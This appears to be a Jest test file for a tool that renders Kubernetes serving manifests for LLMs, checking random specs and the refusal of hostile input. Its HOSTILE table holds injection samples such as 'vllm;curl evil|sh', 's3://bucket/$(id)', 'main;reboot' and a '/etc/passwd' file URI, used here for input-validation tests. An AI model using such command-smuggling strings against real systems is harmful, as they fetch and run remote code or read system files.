import { parse } from 'yaml';
import { checkManifestPolicy, parseManifestFile } from '../manifests';
import { SpecValidationError } from '../render/validation';
import type { RenderedFile } from '../training/repo';
import { seededRandom } from '../training/testSpecs';
import {
  ServingPlanError,
  parseServingSpec,
  planServing,
  renderServingRepo,
  type ServingPlan,
  type ServingSpec,
  type ServingSpecInput,
} from '.';
import { randomServingSpec } from './testing/servingSpecs';

const RUNS = 400;

function renderOrRefusal(
  input: ServingSpecInput,
): { files: RenderedFile[] } | { refusal: Error } {
  try {
    return { files: renderServingRepo(input) };
  } catch (e) {
    return { refusal: e as Error };
  }
}

describe('renderServingRepo over random specs', () => {
  it(`renders every spec that fits into manifests that parse, pass the policy and carry the label; refuses the rest with the plan`, () => {
    const random = seededRandom(20261105);
    const kinds = new Set<string>();
    let rendered = 0;
    const refusals: Error[] = [];
    const deployments: Array<{
      spec: ServingSpec;
      plan: ServingPlan;
      deployment: any;
    }> = [];
    for (let run = 0; run < RUNS; run++) {
      const input = randomServingSpec(random);
      const spec = parseServingSpec(input);
      const outcome = renderOrRefusal(input);
      if ('refusal' in outcome) {
        refusals.push(outcome.refusal);
        continue;
      }
      const files = outcome.files;
      rendered++;
      const plan = planServing(spec);
      expect(['fits', 'borderline']).toContain(plan.verdict);
      const promised =
        plan.verdict === 'fits'
          ? plan.memory.estimates.low
          : plan.memory.estimates.high;
      expect(promised.blocks).toBeGreaterThanOrEqual(
        plan.memory.blocksPerRequest,
      );
      const summary = JSON.parse(
        files.find(f => f.path === 'plan.json')!.content,
      );
      expect(summary.verdict).toBe(plan.verdict);
      expect(summary.warnings.length > 0).toBe(plan.verdict === 'borderline');
      expect(renderServingRepo(JSON.parse(JSON.stringify(input)))).toEqual(
        files,
      );
      for (const file of files.filter(f => f.path.startsWith('deploy/'))) {
        const parsed = parseManifestFile(file.path, file.content);
        expect(parsed.problems).toEqual([]);
        expect(
          checkManifestPolicy(parsed.manifests, { namespace: spec.namespace }),
        ).toEqual([]);
        for (const { object } of parsed.manifests) {
          kinds.add(object.kind);
          expect(
            (object.metadata as any).labels['backstage.io/kubernetes-id'],
          ).toBe(spec.name);
          if (object.kind === 'Deployment') {
            deployments.push({ spec, plan, deployment: object });
          }
        }
      }
      const entity = parse(
        files.find(f => f.path === 'catalog-info.yaml')!.content,
      );
      expect(entity.spec.type).toBe('model-server');
      expect(entity.metadata.annotations['mlops/workload']).toBe('serving');
    }
    for (const { spec, plan, deployment } of deployments) {
      const pod = deployment.spec.template;
      expect(deployment.spec.replicas).toBeUndefined();
      expect(pod.metadata.labels['backstage.io/kubernetes-id']).toBe(spec.name);
      const c = pod.spec.containers[0];
      expect(c.resources.limits[plan.gpu.resourceName]).toBe(
        String(plan.gpu.mig ? 1 : spec.tensorParallelSize),
      );
      const plannedArgs =
        spec.engine === 'vllm'
          ? [
              `--max-num-seqs=${plan.maxNumSeqs}`,
              `--max-model-len=${spec.maxModelLen}`,
            ]
          : [];
      expect(c.args).toEqual(expect.arrayContaining(plannedArgs));
      for (const container of [...(pod.spec.initContainers ?? []), c]) {
        expect(container.securityContext.allowPrivilegeEscalation).toBe(false);
        expect(JSON.stringify(container.env ?? [])).not.toMatch(
          /SECRET_ACCESS_KEY/,
        );
      }
    }
    expect(deployments.length).toBe(rendered);
    expect(rendered).toBeGreaterThan(RUNS / 3);
    expect(refusals.length).toBeGreaterThan(10);
    for (const refusal of refusals) {
      expect(refusal).toBeInstanceOf(ServingPlanError);
      expect((refusal as ServingPlanError).problems.at(-1)!.message).toMatch(
        /^(Nearest configuration that fits|No configuration up to)/,
      );
    }
    expect([...kinds].sort()).toEqual([
      'ConfigMap',
      'Deployment',
      'PersistentVolumeClaim',
      'PodMonitor',
      'ScaledObject',
      'Service',
      'ServiceMonitor',
      'TriggerAuthentication',
    ]);
  });
});

const valid = {
  name: 'llama-chat',
  owner: 'group:default/ml-platform-team',
  model: 'llama-3.1-8b-instruct',
  gpu: 'h100-80gb',
};

const HOSTILE: Array<[string, Record<string, unknown>, string, RegExp]> = [
  [
    'path traversal in the name',
    { name: '../../etc' },
    'name',
    /DNS-1123 label/,
  ],
  ['YAML in the name', { name: 'x\nkind: Secret' }, 'name', /DNS-1123/],
  [
    'a 300-character name',
    { name: 'a'.repeat(300) },
    'name',
    /at most 40 characters/,
  ],
  [
    'an unknown model',
    { model: 'gpt-5' },
    'model',
    /must be one of "qwen2.5-0.5b-instruct"/,
  ],
  ['an unknown GPU', { gpu: 'rtx-5090' }, 'gpu', /must be one of "h100-80gb"/],
  [
    'a negative tensor-parallel size',
    { tensorParallelSize: -2 },
    'tensorParallelSize',
    /whole number from 1 to 8/,
  ],
  [
    'a huge tensor-parallel size',
    { tensorParallelSize: 4096 },
    'tensorParallelSize',
    /whole number from 1 to 8/,
  ],
  [
    'utilization above 1',
    { gpuMemoryUtilization: 1.5 },
    'gpuMemoryUtilization',
    /at most 1/,
  ],
  [
    'utilization as text',
    { gpuMemoryUtilization: 'all' },
    'gpuMemoryUtilization',
    /must be a number/,
  ],
  [
    'a zero context',
    { maxModelLen: 0 },
    'maxModelLen',
    /whole number from 256/,
  ],
  [
    'a fractional context',
    { maxModelLen: 8192.5 },
    'maxModelLen',
    /whole number/,
  ],
  [
    'a non-S3, non-HF model URI',
    { modelUri: 'file:///etc/passwd' },
    'modelUri',
    /hf:\/\/org\/model/,
  ],
  [
    'shell in the model URI',
    { modelUri: 's3://bucket/$(id)' },
    'modelUri',
    /hf:\/\/org\/model/,
  ],
  [
    'shell in the revision',
    { modelRevision: 'main;reboot' },
    'modelRevision',
    /model revision/,
  ],
  [
    'YAML in the served name',
    { servedModelName: 'x\ny: z' },
    'servedModelName',
    /model name for the API/,
  ],
  [
    'a bad endpoint',
    { s3: { endpoint: 'ftp://files.example.com' } },
    's3.endpoint',
    /http\(s\) endpoint URL/,
  ],
  [
    'shell in the image',
    { image: 'vllm;curl evil|sh' },
    'image',
    /container image reference/,
  ],
  [
    'TP on a MIG slice',
    { gpu: 'h100-80gb-mig-3g.40gb', tensorParallelSize: 2 },
    'tensorParallelSize',
    /must be 1 on a MIG slice/,
  ],
  [
    'runai_streamer from Hugging Face',
    { loadFormat: 'runai_streamer' },
    'loadFormat',
    /streams from S3/,
  ],
  [
    'TensorRT-LLM without an S3 engine',
    { engine: 'triton-tensorrt-llm' },
    'modelUri',
    /pre-built engine/,
  ],
  [
    'min above max replicas',
    { autoscaling: { minReplicas: 5, maxReplicas: 2 } },
    'autoscaling.minReplicas',
    /at most maxReplicas/,
  ],
  [
    'zero replicas without scale-to-zero',
    { autoscaling: { minReplicas: 0 } },
    'autoscaling.minReplicas',
    /only with scaleToZero/,
  ],
  [
    'Prometheus auth without a Secret',
    { autoscaling: { prometheusAuth: 'basic' } },
    'autoscaling.prometheusAuthSecret',
    /is required/,
  ],
  [
    'a non-http Prometheus URL',
    { autoscaling: { prometheusUrl: 'file:///x' } },
    'autoscaling.prometheusUrl',
    /http\(s\) URL/,
  ],
  [
    'a huge GPU threshold',
    { autoscaling: { gpuUtilizationPercent: 1000 } },
    'autoscaling.gpuUtilizationPercent',
    /1 to 100/,
  ],
  [
    'an unknown field',
    { privileged: true },
    '(input)',
    /unknown field\(s\) "privileged"/,
  ],
  [
    'YAML in the description',
    { description: 'a\n---\nkind: Secret' },
    'description',
    /plain text/,
  ],
];

describe('hostile and out-of-range serving input', () => {
  it.each(HOSTILE)('refuses %s', (_what, patch, field, accepted) => {
    let error: SpecValidationError | undefined;
    try {
      renderServingRepo({ ...valid, ...patch } as any);
    } catch (e) {
      error = e as SpecValidationError;
    }
    expect(error).toBeInstanceOf(SpecValidationError);
    const problem = error!.problems.find(p => p.field === field);
    expect(problem?.message).toMatch(accepted);
  });
});
